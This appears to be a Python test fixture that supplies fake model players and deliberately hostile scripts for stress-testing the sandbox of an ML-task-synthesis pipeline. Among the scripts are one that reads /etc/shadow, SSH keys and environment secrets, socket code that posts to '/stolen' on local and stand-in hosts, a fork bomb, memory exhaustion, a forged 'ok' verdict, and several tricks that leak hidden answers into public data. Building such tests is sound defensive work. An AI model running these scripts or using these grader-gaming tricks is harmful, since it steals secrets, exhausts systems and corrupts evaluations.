"""Models that play the synthesizer's roles over the wire: good, sloppy, and malicious ones."""

import json
import re
from collections.abc import Callable, Sequence
from hashlib import sha256
from typing import Any

from sandmle.core.types.message import Message, ModelReply

from .doors import SCRIPT, answers_of, role_asked
from .server import Request

Player = Callable[[Sequence[Message], Request], ModelReply]


def good(messages: Sequence[Message], request: Request) -> ModelReply:
    """Answers every role well at once."""
    return _reply(_answer(messages))


def sloppy(messages: Sequence[Message], request: Request) -> ModelReply:
    """Breaks half of its answers, each in one of seven ways; which, the conversation decides."""
    role, answer = role_asked(messages), _answer(messages)
    dice = sha256("\n".join(message.content for message in messages).encode()).digest()
    if dice[0] % 2:
        return _reply(answer)
    text = json.dumps(answer)
    return (
        ModelReply(text="I have thought about it, and I would need more information."),
        ModelReply(text=text[: len(text) // 2], finish_reason="length"),
        ModelReply(text=f"Sure! Here you are:\n```json\n{text}\n```\nI hope that helps."),
        ModelReply(text=json.dumps({key: value for key, value in answer.items() if key not in ("script", "title")})),
        _reply(_broken(role, answer)),
        ModelReply(text=text.replace('"', "'")),
        ModelReply(text="[" + text + "]"),
    )[dice[1] % 7]


def hopeless(messages: Sequence[Message], request: Request) -> ModelReply:
    """Never gives an answer."""
    return ModelReply(text="As I said.")


def malicious(attacks: Sequence[str]) -> Player:
    """A developer that plays one attack per draft, in order, and honestly thereafter; the other roles are good.

    Args:
        attacks: whole generator scripts.
    """

    def play(messages: Sequence[Message], request: Request) -> ModelReply:
        answer, index = _answer(messages), _index(messages)
        if role_asked(messages) == "ml-developer" and index is not None and index < len(attacks):
            return _reply({"script": attacks[index]})
        return _reply(answer)

    return play


def telling_scripts(secret: str, port: int) -> dict[str, str]:
    """Scripts that tell whoever wrote them what they found, by an error that is sent back: none finds anything."""
    return {
        "reads files": f"""
import glob, os
found = []
for path in [{secret!r}, "/etc/shadow", "/root/.ssh/id_rsa", *glob.glob("/root/*"), *glob.glob("/home/*/*"),
             *glob.glob("/proc/*/environ"), *glob.glob("/proc/*/cmdline"), *glob.glob("/tmp/*/*")]:
    try:
        found.append(open(path, "rb").read()[:2000])
    except OSError:
        pass
found.append(repr(dict(os.environ)).encode())
raise RuntimeError("loot: " + b" ".join(found).decode("latin-1"))
""",
        "opens sockets": f"""
import socket, urllib.request
opened = []
for family, address in ((socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_INET, ("192.0.2.1", 80))):
    try:
        with socket.socket(family) as one:
            one.settimeout(2)
            one.connect(address)
            one.sendall(b"POST /stolen HTTP/1.0\\r\\ncontent-length: 2\\r\\n\\r\\n{{}}")
            opened.append(address)
    except OSError:
        pass
try:
    urllib.request.urlopen("http://127.0.0.1:{port}/stolen", data=b"{{}}", timeout=2)
    opened.append("http")
except Exception:
    pass
raise RuntimeError(f"opened: {{opened}}")
""",
        "forks without end": """
import os
made = 0
while True:
    try:
        if os.fork() == 0:
            while True:
                pass
        made += 1
    except OSError:
        break
raise RuntimeError(f"made {made}")
""",
    }


def misbehaving(attacks: Sequence[tuple[str, Callable[[dict[str, Any]], str]]]) -> Player:
    """Plays one attack per draft, in order, and honestly thereafter.

    Args:
        attacks: the role that misbehaves, and its reply, made of the honest answer.
    """

    def play(messages: Sequence[Message], request: Request) -> ModelReply:
        answer, index = _answer(messages), _index(messages)
        if index is not None and index < len(attacks) and attacks[index][0] == role_asked(messages):
            return ModelReply(text=attacks[index][1](answer))
        return _reply(answer)

    return play


def outrageous_replies() -> dict[str, tuple[str, Callable[[dict[str, Any]], str]]]:
    """Replies that are made to be too much for whoever reads, runs or measures them: role, and reply."""

    def changed(**changes: Any) -> Callable[[dict[str, Any]], str]:
        return lambda answer: json.dumps({**answer, **changes})

    def script(code: str) -> tuple[str, Callable[[dict[str, Any]], str]]:
        return "ml-developer", changed(script=code)

    strategist, engineer = "data-strategist", "mlops-engineer"
    return {
        "twenty megabytes in a field that nobody asked for": (strategist, changed(padding="x" * 20_000_000)),
        "thoughts that begin and never end": (strategist, lambda answer: "</think>" + "<think>" * 100_000),
        "lists in lists": (strategist, lambda answer: "[" * 500_000),
        "wrong types": (strategist, changed(columns="all of them", train_rows=[], noise_families={"a": 1})),
        "a title that clears the screen": (strategist, changed(title="Doors \x1b[2J of oak")),
        "names of half a megabyte": (strategist, changed(noise_families=["x" * 500_000])),
        "links the answers by another name": script(SCRIPT + "\nos.link('private/answers.csv', 'public/notes.csv')\n"),
        "other rows on each run": script(_instead("np.random.default_rng(RNG_SEED)", "np.random.default_rng()")),
        "sleeps to the deadline": script(SCRIPT + "\nimport time\ntime.sleep(10**6)\n"),
        "targets that no sum holds": script(
            _instead("minutes = (clean + rng.normal(size=n)).round(4)", "minutes = 1e308 * rng.uniform(-1, 1, size=n)")
        ),
        "a sample that no sum holds": script(_instead("[ids[i], 0.0] for i in test", "[ids[i], 1e308] for i in test")),
        "a forged verdict": script('print(\'{"status": "ok"}\', flush=True)\nimport os\nos._exit(0)\n' + "#" * 200),
        "a script that is no text": script(SCRIPT + "\0"),
        "a prediction of its own": (engineer, changed(prediction="answers")),
        "one solution sixty times": (
            engineer,
            lambda answer: json.dumps({**answer, "solutions": answer["solutions"][:1] * 60}),
        ),
    }


def vain_scripts() -> dict[str, str]:
    """Scripts that make the honest data, and try to have something else become of it."""
    rewrite = "open('public/train.csv', 'ab').write(b'x,1,1,oak,1\\n')"
    return {
        "stamps files with answers": SCRIPT
        + "\nfor at, name in enumerate(('train', 'test')):\n    os.utime(f'public/{name}.csv', (at * 1e6, at * 1e6))\n",
        "leaves a daemon behind": SCRIPT
        + "\nimport time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork():\n        os._exit(0)\n"
        f"    while True:\n        time.sleep(0.01)\n        {rewrite}\n",
        "leaves a thread behind": SCRIPT + f"\nimport threading, time\ndef later():\n    time.sleep(5)\n    {rewrite}\n"
        "threading.Thread(target=later, daemon=True).start()\n",
        "writes elsewhere": SCRIPT + "\nfor place in ('/tmp/x', '../x', 'x', '/dev/shm/x'):\n    try:\n"
        "        open(place, 'w').write('the answers')\n    except OSError:\n        pass\n",
        "prints a verdict": SCRIPT + "\nprint('accepted' * 100_000)\n",
    }


def _instead(old: str, new: str) -> str:
    """The honest script with a change."""
    assert old in SCRIPT, old
    return SCRIPT.replace(old, new)


def planting_scripts() -> dict[str, str]:
    """Scripts that make the honest data and hide the answers in what is public, or write what they may not."""
    return {
        "writes the answers beside the data": SCRIPT
        + "\nimport shutil\nshutil.copy('private/answers.csv', 'public')\n",
        "links the answers": SCRIPT + "\nos.symlink('../private/answers.csv', 'public/notes.csv')\n",
        "names rows by their answers": _instead(
            "ids = rng.permutation(90000)[:n] + 10000", "ids = np.argsort(np.argsort(minutes)) + 10000"
        ),
        "sorts rows by their answers": _instead(
            "minutes = (clean + rng.normal(size=n)).round(4)",
            "minutes = (clean + rng.normal(size=n)).round(4)\n"
            "order = np.r_[np.argsort(minutes[:n_train]), n_train + np.argsort(minutes[n_train:])]\n"
            "film, humidity, wood, clean, minutes = (x[order] for x in (film, humidity, wood, clean, minutes))",
        ),
        "hides the answers in the last digits": _instead(
            "features = lambda i: [ids[i], film[i], humidity[i], wood[i]]",
            "place = np.argsort(np.argsort(minutes))\n"
            "features = lambda i: [ids[i], f'{film[i]:.4f}{place[i]:04d}', humidity[i], wood[i]]",
        ),
        "hides the answers in blanks": _instead(
            "features = lambda i: [ids[i], film[i], humidity[i], wood[i]]",
            "place = np.argsort(np.argsort(minutes)) * 60 // n\n"
            "features = lambda i: [ids[i], film[i], humidity[i], wood[i] + ' ' * place[i]]",
        ),
        "hides the answers in zeros": _instead(
            "features = lambda i: [ids[i], film[i], humidity[i], wood[i]]",
            "place = np.argsort(np.argsort(minutes)) * 20 // n\n"
            "features = lambda i: [ids[i], f'{film[i]:.4f}' + '0' * place[i], humidity[i], wood[i]]",
        ),
        "repeats rows of test in train": _instead(
            "clean = 40 + 3 * film",
            "for x in (film, humidity, wood):\n"
            "    x[n_train:] = x[np.arange(n_test) % n_train]\n"
            "rng = np.random.default_rng(RNG_SEED + 1)\n"
            "clean = 40 + 3 * film",
        ),
        "writes without end": "import os\nos.makedirs('public'); os.makedirs('private')\n"
        "with open('public/train.csv', 'wb') as file:\n    while True:\n        file.write(b'0' * 2**20)\n" + "#" * 200,
        "writes more than may be kept": SCRIPT + "\nopen('public/train.csv', 'ab').write(b'\\n' * (90 * 2**20))\n",
        "writes thousands of files": SCRIPT
        + "\nfor number in range(9000):\n    open(f'public/{number}.txt', 'w').close()\n",
        "never ends": "while True:\n    pass\n" + "#" * 200,
        "takes all memory": "held = []\nwhile True:\n    held.append(bytearray(2**26))\n" + "#" * 200,
    }


def _answer(messages: Sequence[Message]) -> dict[str, Any]:
    return answers_of(_index(messages) or 0)[role_asked(messages)]


def _index(messages: Sequence[Message]) -> int | None:
    """Of the draft, where the role is told."""
    found = next((re.search(r'"index": ([0-9]+)', one.content) for one in messages if "# Role: " in one.content), None)
    return int(found[1]) if found else None


def _reply(answer: dict[str, Any]) -> ModelReply:
    return ModelReply(text=json.dumps(answer))


def _broken(role: str, answer: dict[str, Any]) -> dict[str, Any]:
    """An answer of the right form that does not hold when it is tried out."""
    if role == "ml-developer":
        return {"script": answer["script"].replace("film, humidity = ", "film, humidty = ")}
    if role == "mlops-engineer":
        first, *others = answer["solutions"]
        return {**answer, "solutions": [{**first, "code": "raise SystemError('no such column')"}, *others]}
    if role == "technical-writer":
        return {"description": answer["description"].replace("wood", "timber")}
    return {**answer, "metric": "rmsee"}
